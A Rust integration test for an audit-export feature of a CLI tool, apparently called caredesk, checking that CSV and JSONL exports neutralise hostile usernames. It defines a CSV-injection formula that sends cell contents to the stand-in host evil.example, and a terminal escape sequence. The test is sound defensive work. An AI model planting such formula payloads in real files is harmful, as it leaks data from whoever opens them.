//! Hostile text reaching an auditor's spreadsheet or terminal through the audit export:
//! a sign-in attempt for a user named like a spreadsheet formula, and one whose name
//! carries a terminal escape sequence (OWASP CSV injection; control characters).

mod common;

use common::*;

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&B2,\"Click me\")";
const ESCAPE: &str = "mallory\u{1b}[2Jx";

#[test]
fn formula_and_escape_sequences_are_neutralised_in_audit_exports() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("store");
    let init = run_caredesk(
        Some(&dir),
        &["init", "--admin", "admin", "--json"],
        &format!("{PASSWORD}\n"),
    );
    assert!(init.status.success(), "{}", text(&init.stderr));
    // Two failed sign-ins through the command line, as anyone on the server could.
    for user in [FORMULA, ESCAPE] {
        let out = run_caredesk(
            Some(&dir),
            &["user", "list"],
            &format!("{user}\nwrong password\n123456\n"),
        );
        assert!(!out.status.success());
    }
    let csv_out = run_caredesk(Some(&dir), &["audit", "export", "--format", "csv"], "");
    assert!(csv_out.status.success(), "{}", text(&csv_out.stderr));
    assert!(!csv_out.stdout.contains(&0x1b), "raw ESC in the CSV export");
    let mut reader = csv::Reader::from_reader(csv_out.stdout.as_slice());
    let mut formula_seen = false;
    let mut escape_seen = false;
    for record in reader.records() {
        let record = record.unwrap();
        for cell in record.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell:?}"
            );
            assert!(!cell.chars().any(char::is_control), "{cell:?}");
            formula_seen |= cell == format!("'{FORMULA}");
            escape_seen |= cell == "mallory\u{fffd}[2Jx";
        }
    }
    assert!(
        formula_seen,
        "the formula user's sign-in is not in the export"
    );
    assert!(
        escape_seen,
        "the escape user's sign-in is not in the export"
    );

    let json_out = run_caredesk(Some(&dir), &["audit", "export", "--format", "jsonl"], "");
    assert!(json_out.status.success());
    assert!(
        !json_out.stdout.contains(&0x1b),
        "raw ESC in the JSON export"
    );
    let users: Vec<String> = text(&json_out.stdout)
        .lines()
        .map(|l| {
            serde_json::from_str::<serde_json::Value>(l).unwrap()["user"]
                .as_str()
                .unwrap()
                .to_string()
        })
        .collect();
    assert!(users.iter().any(|u| u == ESCAPE), "{users:?}");
}
